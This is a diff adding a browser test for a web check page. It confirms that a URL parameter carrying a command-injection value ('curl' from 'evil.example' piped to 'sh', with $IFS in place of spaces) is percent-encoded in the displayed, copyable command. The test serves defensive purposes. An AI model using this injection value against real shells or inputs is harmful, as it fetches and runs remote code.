@@ -57,6 +57,19 @@ describe('the page of the check', () => {
     assert.match((await page.getByRole('alert').textContent())!, /„ftp:\/\/x“ ist keine Adresse/);
   });
 
+  it('copies the report, which is folded away, and a command that a link can not change', async () => {
+    const sent = "https://x/;curl$IFS'evil.example'|sh";
+    await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
+    await untilChecked(page);
+    assert.equal(
+      await page.locator('.terminal code').textContent(),
+      'npx onair-panel check https://x/%3Bcurl%24IFS%27evil.example%27%7Csh --server 1',
+    );
+    const copied = page.locator('.copy [role=status]', { hasText: 'Copied' }).waitFor();
+    await page.getByRole('button', { name: 'Copy report' }).click();
+    await copied;
+  });
+
   it('leads from a server that is not there to those that are', async () => {
     await page.goto(`${CHECK()}?panel=${panel.url}&server=99`);
     await untilChecked(page);
